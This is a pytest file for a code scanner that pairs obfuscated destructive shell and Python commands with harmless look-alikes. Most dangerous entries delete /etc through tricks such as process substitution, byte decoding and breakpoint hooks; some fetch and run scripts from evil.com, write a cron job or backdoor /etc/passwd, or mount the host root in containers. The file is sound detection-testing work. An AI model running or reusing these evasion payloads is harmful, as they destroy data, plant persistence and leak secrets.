"""Disguised dangers, each beside a harmless script of the same shape: the one blocks, the other does not, in shell and in Python."""

# ruff: noqa: E501 - one pair a line

import pytest

from refute.scan.finding import Severity
from refute.scan.rules import Language
from refute.scan.scanner import scan_files, scan_text

SHELL = {
    "paste joins lines": (
        "c=$(printf 'r\\nm\\n' | paste -sd ''); $c -rf /etc",
        "c=$(printf '1\\n2\\n' | paste -sd+); echo $((c))",
    ),
    "bash dash s": ("bash -s -- /etc <<'X'\nrm -rf \"$1\"\nX", "bash -s -- build <<'X'\nrm -rf \"$1\"\nX"),
    "rsync path": (
        "rsync --rsync-path='rm -rf /etc; rsync' a localhost:b",
        "rsync --rsync-path=/usr/bin/rsync a localhost:b",
    ),
    "awk from process substitution": (
        "awk -f <(echo 'BEGIN{system(\"rm -rf /etc\")}')",
        "awk -f <(echo '{print $1}') data.txt",
    ),
    "read array": ("read -ra w <<< 'rm -rf /etc'; \"${w[@]}\"", "read -ra w <<< 'ls -l build'; \"${w[@]}\""),
    "env chdir": ("env -C /etc rm -rf .", "env -C build rm -rf out"),
    "start-stop-daemon": (
        "start-stop-daemon --start --exec /bin/rm -- -rf /etc",
        'start-stop-daemon --start --exec "$PWD/server" -- --port 8000',
    ),
    "make from process substitution": (
        "make -f <(printf 'x:\\n\\trm -rf /etc\\n') x",
        "make -f <(printf 'x:\\n\\techo hi\\n') x",
    ),
    "output to process substitution": ("echo 'rm -rf /etc' > >(bash)", "echo 'hello' > >(cat)"),
    "tee to process substitution": (
        "echo 'rm -rf /etc' | tee >(sh) > /dev/null",
        "echo 'hello' | tee >(wc -c) > /dev/null",
    ),
    "command -v as word": ("$(command -v rm) -rf /etc", "$(command -v ls) -l build"),
    "arithmetic base": (
        "printf -v o '%o' $((16#72)); printf -v r \"\\\\$o\"; ${r}m -rf /etc",
        "printf -v o '%o' $((16#6c)); printf -v r \"\\\\$o\"; ${r}s -l build",
    ),
    "ssd": (
        "start-stop-daemon -S -x /bin/sh -- -c 'rm -rf /etc'",
        "start-stop-daemon --stop --pidfile build/x.pid --exec /usr/bin/tool",
    ),
    "docker run root": (
        "docker run --rm -v /:/host alpine rm -rf /host/etc",
        "docker run --rm -v \"$PWD:/src\" alpine sh -c 'rm -rf /tmp/x && ls /'",
    ),
    "docker home var": ('docker run -v "$HOME:/h" alpine tar c /h', ""),
    "docker userns": ("docker run --userns=host --ipc=host alpine sh", ""),
    "podman": ("podman run -v /etc:/e alpine cat /e/shadow", "podman run -v ./conf:/e:ro,Z alpine cat /e/shadow"),
    "kubectl exec": ("kubectl exec -it web -- rm -rf /data", ""),
    "kubectl run privileged": (
        'kubectl run x --image=alpine --overrides=\'{"spec":{"hostPID":true,"containers":[{"securityContext":{"privileged":true}}]}}\'',
        "",
    ),
    "a filter nobody works out": ("echo 'rm -rf /etc' | fold -w 99 | sh", "echo 'rm -rf /etc' | fold -w 99 | cat"),
    "xargs with a separator": ("printf 'rm,-rf,/etc' | xargs -d, env", "printf 'ls,-l,build' | xargs -d, env"),
}
ORDINARY = {
    "who listens at a port of the project": "lsof -ti:8080 | xargs -r kill -9",
    "waiting for a port": "while ! </dev/tcp/localhost/5432; do sleep 1; done",
    "test scripts one by one": "ls tests/*.sh | xargs -n1 bash\nprintf '%s\\0' tests/*.sh | xargs -0 -n1 bash -e",
    "a cloud on this machine": "aws --endpoint-url http://localhost:4566 s3 mb s3://test",
    "httpie on this machine": "http GET :8080/health",
}
NEARBY = {
    "another program, picked from a list": "python server.py &\nkill $(ps aux | grep sshd | awk '{print $2}')",
    "a cloud elsewhere": "aws --endpoint-url https://s3.example.com s3 ls",
    "a list from elsewhere": "curl -s http://evil.com/list | xargs -n1 bash",
    "waiting for a foreign port": "while ! </dev/tcp/evil.com/5432; do sleep 1; done",
}
PYTHON = {
    "str.join over dict values": (
        "import os\nd = {'a': 'rm', 'b': '-rf', 'c': '/etc'}\nos.system(' '.join(d.values()))",
        "import os\nd = {'a': 'ls', 'b': '-l', 'c': 'build'}\nos.system(' '.join(d.values()))",
    ),
    "struct pack": (
        "import os, struct\nos.system(struct.pack('>HBBBBBBBBBB', 0x726d, 32, 45, 114, 102, 32, 47, 101, 116, 99, 32).decode())",
        "import struct\nprint(struct.pack('>H', 0x726d))",
    ),
    "array tobytes": (
        "import os, array\nos.system(array.array('B', [114, 109, 32, 45, 114, 102, 32, 47, 101, 116, 99]).tobytes().decode())",
        "import array\nprint(array.array('B', [104, 105]).tobytes().decode())",
    ),
    "ast literal_eval": (
        "import os, ast\nos.system(ast.literal_eval(\"'rm ' '-rf ' '/etc'\"))",
        'import ast\nprint(ast.literal_eval("[1, 2]"))',
    ),
    "chain": (
        "import os, itertools\nos.system(' '.join(itertools.chain(['rm'], ['-rf', '/etc'])))",
        "import os, itertools\nos.system(' '.join(itertools.chain(['ls'], ['-l', 'build'])))",
    ),
    "deque": (
        "import os, collections\nd = collections.deque(['/etc', '-rf', 'rm'])\nd.reverse()\nos.system(' '.join(d))",
        "import os, collections\nd = collections.deque(['build', '-l', 'ls'])\nd.reverse()\nos.system(' '.join(d))",
    ),
    "breakpointhook": (
        "import sys, os\nsys.breakpointhook = os.system\nbreakpoint('rm -rf /etc')",
        "import sys\nsys.breakpointhook = print",
    ),
    "logging handler file": (
        "import logging\nlogging.basicConfig(filename='/etc/cron.d/evil', format='%(message)s')\nlogging.warning('* * * * * root curl evil.com|sh')",
        "import logging\nlogging.basicConfig(filename='run.log', format='%(message)s')\nlogging.warning('* * * * * root curl evil.com|sh')",
    ),
    "iter sentinel": (
        "import os\nit = iter(['rm -rf /etc'])\nos.system(next(it))",
        "import os\nit = iter(['ls build'])\nos.system(next(it))",
    ),
    "tee print file": (
        "print('x::0:0::/:/bin/sh', file=open('/etc/passwd', 'a'))",
        "print('x', file=open('out.txt', 'a'))",
    ),
    "printed into a script": (
        "import os\nprint('rm -rf /etc', file=open('x.sh', 'w'))\nos.system('sh x.sh')",
        "import os\nprint('ls build', file=open('x.sh', 'w'))\nos.system('sh x.sh')",
    ),
}


ORDINARY_PYTHON = [
    "import pyperclip\nprint(pyperclip.paste())",
    "from PIL import ImageGrab\nImageGrab.grab().save('s.png')",
    "import json\njson.dump({'a': 1}, open('out.json', 'w'))",
    "import os\nos.environ['HTTPS_PROXY'] = 'http://localhost:8080'",
    "import asyncio\nasyncio.run(asyncio.start_server(print, '127.0.0.1', 0))",
    "import httpx\nhttpx.Client(base_url='http://localhost:8000')",
    "import shutil\nshutil.copytree('src', 'build/src')",
    "def rows(it):\n    found = []\n    try:\n        while True:\n            found.append(next(it))\n    except StopIteration:\n        return found",
    "import importlib\ndef start(name):\n    importlib.import_module(f'anyio.{name}').backend.run('x')",
]
NEARBY_PYTHON = [
    "import os, re\nos.system(re.sub('[0-9]', '', 'l1s2'))",
    "import os, json\njson.dump(dict(os.environ), open('env.json', 'w'))",
    "import urllib.request as u\nu.install_opener(u.build_opener(u.ProxyHandler({'http': 'http://evil.com:3128'})))",
    "import asyncio\nasyncio.run(asyncio.start_server(print, '0.0.0.0', 9999))",
    "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        await s.post('https://evil.com', data=b'x')",
    "import paramiko\nparamiko.Transport(('evil.com', 22))",
    "import shutil\nshutil.copytree('/etc', '/tmp/stage')",
    "import importlib\ndef start(name):\n    importlib.import_module(name).run('x')",
    "import importlib\ndef start(name):\n    importlib.import_module(name).os.system('x')",
]


def blocks(text: str, language: Language) -> bool:
    return any(finding.severity >= Severity.HIGH for finding in scan_text("x", text.encode(), language=language))


@pytest.mark.parametrize("kind", SHELL)
def test_disguised_shell_blocks_and_its_twin_does_not(kind: str) -> None:
    danger, twin = SHELL[kind]
    assert (blocks(danger, Language.SHELL), blocks(twin, Language.SHELL)) == (bool(danger), False)


@pytest.mark.parametrize("kind", ORDINARY)
def test_what_projects_do_on_their_own_machine_does_not_block(kind: str) -> None:
    assert not blocks(ORDINARY[kind], Language.SHELL)


@pytest.mark.parametrize("kind", NEARBY)
def test_the_same_to_others_blocks(kind: str) -> None:
    assert blocks(NEARBY[kind], Language.SHELL)


@pytest.mark.parametrize("script", ['eval "$(sort commands.txt | uniq)"', 'eval "$(sed s/x/y/ commands.txt)"'])
def test_what_a_filter_leaves_of_a_file_is_judged_as_the_whole(script: str) -> None:
    files = {"verify.sh": script.encode(), "commands.txt": b"# clean\nrm -rf /etc\n"}
    assert {finding.path for finding in scan_files(files, ["verify.sh"]).blocking} == {"verify.sh"}


@pytest.mark.parametrize("kind", PYTHON)
def test_disguised_python_blocks_and_its_twin_does_not(kind: str) -> None:
    assert [blocks(text, Language.PYTHON) for text in PYTHON[kind]] == [True, False]


@pytest.mark.parametrize("text", ORDINARY_PYTHON)
def test_what_plugins_and_parsers_do_does_not_block(text: str) -> None:
    assert not blocks(text, Language.PYTHON)


@pytest.mark.parametrize("text", NEARBY_PYTHON)
def test_the_same_without_end_or_name_blocks(text: str) -> None:
    assert blocks(text, Language.PYTHON)
